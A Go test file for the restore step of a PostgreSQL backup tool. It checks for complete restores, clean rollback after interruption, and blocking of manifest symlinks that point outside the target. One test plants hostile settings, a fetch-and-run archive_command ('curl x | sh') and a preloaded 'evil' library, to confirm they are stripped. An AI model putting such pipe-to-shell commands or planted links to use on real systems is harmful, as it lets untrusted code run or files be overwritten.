package datadir_test

import (
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"howdah.dev/howdah/cmd/howdah-backup/internal/autoconf"
	"howdah.dev/howdah/cmd/howdah-backup/internal/datadir"
	"howdah.dev/howdah/cmd/howdah-backup/internal/sample"
	"howdah.dev/howdah/pkg/backup"
	"howdah.dev/howdah/pkg/objstore"
	"howdah.dev/howdah/pkg/objstore/mem"
)

func job(t *testing.T, store objstore.Store) *datadir.Job {
	sample.Claim(t, store, sample.Lineage, "shop")
	m := sample.Backup(t, store, sample.Lineage, "b", sample.Data(t), 0, 2)
	return &datadir.Job{
		Store: store, Manifest: m, Dir: filepath.Join(t.TempDir(), "new folder", "pgdata"), Recovery: &autoconf.Settings{Command: []string{"x"}},
		Report: func(string, int64, int64) {},
	}
}

func read(t *testing.T, parts ...string) string {
	t.Helper()
	content, err := os.ReadFile(filepath.Join(parts...))
	if err != nil {
		t.Error(err)
	}
	return string(content)
}

func TestARestoreIsWhole(t *testing.T) {
	j := job(t, mem.New())
	place := filepath.Join(t.TempDir(), "slow disk")
	j.Tablespaces = map[string]string{"16385": place}
	if err := os.MkdirAll(j.Dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := j.Run(t.Context()); err != nil {
		t.Fatal(err)
	}
	if info, err := os.Stat(j.Dir); err != nil || info.Mode().Perm() != 0o700 {
		t.Errorf("others may look into the folder: %v, %v", info.Mode(), err)
	}
	for name, want := range map[string]string{
		"global/pg_control": "control", "sch\u00f6ne Daten/\u6570\u636e 1.conf": "x = 1\n", "pg_wal/" + sample.Segment(2): sample.Content(2),
		"pg_wal/" + sample.Segment(3): sample.Content(3), "recovery.signal": "", "tablespace_map": "16385 " + place + "\n",
	} {
		if got := read(t, j.Dir, name); got != want {
			t.Errorf("%s is %q", name, got)
		}
	}
	if conf := read(t, j.Dir, "postgresql.auto.conf"); !strings.HasPrefix(conf, "work_mem = '5MB'\n") || !strings.Contains(conf, "restore_command") {
		t.Error(conf)
	}
	if len(read(t, place, "PG_17_202406281/5/16390")) != 8192 {
		t.Error("the tablespace is not in its place")
	}
	manifest := read(t, j.Dir, "backup_manifest")
	for _, part := range []string{`"backup_label"`, `"tablespace_map"`, `"pg_tblspc/16385/PG_17_202406281/5/16390"`, "sch\u00f6ne Daten", `"global/pg_control"`} {
		if !strings.Contains(manifest, part) {
			t.Errorf("%s is missing in %s", part, manifest)
		}
	}
	if _, err := os.Stat(filepath.Join(j.Dir, "global/pg_control.unfinished")); !errors.Is(err, fs.ErrNotExist) {
		t.Error(err)
	}
}

// stopping ends the context at an object whose key has some part, and then fails like a store does.
type stopping struct {
	objstore.Store
	part   string
	cancel context.CancelFunc
}

func (s *stopping) Get(ctx context.Context, key string, limit int64) ([]byte, error) {
	if strings.Contains(key, s.part) {
		s.cancel()
	}
	return s.Store.Get(ctx, key, limit)
}

func (s *stopping) ReadAt(ctx context.Context, key string, p []byte, off int64) (int, error) {
	if strings.Contains(key, s.part) {
		s.cancel()
	}
	return s.Store.ReadAt(ctx, key, p, off)
}

func TestAnInterruptedRestoreLeavesNothing(t *testing.T) {
	for _, part := range []string{"/packs/", "/wal/"} {
		store := mem.New()
		j := job(t, store)
		ctx, cancel := context.WithCancel(t.Context())
		j.Store = &stopping{Store: store, part: part, cancel: cancel}
		place := t.TempDir()
		j.Tablespaces = map[string]string{"16385": place}
		if err := j.Run(ctx); !errors.Is(err, context.Canceled) {
			t.Errorf("%s: %v", part, err)
		}
		if _, err := os.Stat(j.Dir); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s: %v", part, err)
		}
		if left, err := os.ReadDir(place); err != nil || len(left) > 0 {
			t.Errorf("%s: a folder that was there: %v, %v", part, left, err)
		}
	}
}

func TestMissingWALIsNamedAndNothingIsLeft(t *testing.T) {
	store := mem.New()
	j := job(t, store)
	if err := store.Delete(t.Context(), "lineages/"+sample.Lineage+"/wal/00000001/"+sample.Segment(3)); err != nil {
		t.Fatal(err)
	}
	err := j.Run(t.Context())
	if !errors.Is(err, backup.ErrWALMissing) || !strings.Contains(err.Error(), sample.Segment(3)) {
		t.Errorf("got %v", err)
	}
	if _, err := os.Stat(j.Dir); !errors.Is(err, fs.ErrNotExist) {
		t.Error(err)
	}
}

func TestAFolderThatIsNotEmptyIsLeftAsItIs(t *testing.T) {
	j := job(t, mem.New())
	j.Dir = t.TempDir()
	if err := os.WriteFile(filepath.Join(j.Dir, "precious"), []byte("x"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := j.Run(t.Context()); !errors.Is(err, backup.ErrTarget) {
		t.Errorf("got %v", err)
	}
	if read(t, j.Dir, "precious") != "x" {
		t.Error("it was touched")
	}
}

// plant puts a link in the place of whatever a manifest has under its name, as anyone can who writes to the bucket.
func plant(m *backup.Manifest, name, target string) {
	m.Files = slices.DeleteFunc(m.Files, func(f backup.File) bool { return f.Path == name || strings.HasPrefix(f.Path, name+"/") })
	m.Files = append(m.Files, backup.File{Path: name, Kind: backup.Symlink, Link: target})
}

func TestNothingOutsideIsWrittenThroughALinkOfTheManifest(t *testing.T) {
	for name, folder := range map[string]bool{
		"pg_wal/" + sample.Segment(2): false, "postgresql.auto.conf": false, "recovery.signal": false, "backup_manifest": false,
		"backup_label": false, "pg_wal": true, "pg_tblspc": true,
	} {
		t.Run(name, func(t *testing.T) {
			j := job(t, mem.New())
			outside := t.TempDir()
			victim := filepath.Join(outside, "precious")
			if err := os.WriteFile(victim, []byte("mine"), 0o600); err != nil {
				t.Fatal(err)
			}
			target := victim
			if folder {
				target = outside
			}
			plant(j.Manifest, name, target)
			if err := j.Run(t.Context()); err == nil {
				t.Error("the restore succeeded")
			}
			left, err := os.ReadDir(outside)
			if err != nil || len(left) != 1 || read(t, victim) != "mine" {
				t.Errorf("the folder has %v, and the file says %q (%v)", left, read(t, victim), err)
			}
		})
	}
}

func TestSettingsThatRunCodeAreLeftOutUnlessTheRepositoryIsEncrypted(t *testing.T) {
	for _, trusted := range []bool{false, true} {
		store, dir := mem.New(), sample.Data(t)
		for name, content := range map[string]string{
			"postgresql.conf":      "port = 5433\nshared_preload_libraries = '/data/evil'\n",
			"postgresql.auto.conf": "work_mem = '5MB'\narchive_command = 'curl x | sh'\n",
		} {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		sample.Claim(t, store, sample.Lineage, "shop")
		j := &datadir.Job{
			Store: store, Manifest: sample.Backup(t, store, sample.Lineage, "b", dir, 0, 2), Dir: filepath.Join(t.TempDir(), "pgdata"),
			Trusted: trusted, Report: func(string, int64, int64) {},
		}
		if err := j.Run(t.Context()); err != nil {
			t.Fatal(err)
		}
		conf, auto := read(t, j.Dir, "postgresql.conf"), read(t, j.Dir, "postgresql.auto.conf")
		if kept := strings.Contains(conf, "evil") || strings.Contains(auto, "curl"); kept != trusted || (len(j.Dropped) == 0) != trusted {
			t.Errorf("encrypted %t: %q and %q, left out %q", trusted, conf, auto, j.Dropped)
		}
		if !strings.Contains(conf, "port = 5433") || !strings.Contains(auto, "work_mem") {
			t.Errorf("other settings are lost: %q, %q", conf, auto)
		}
	}
}
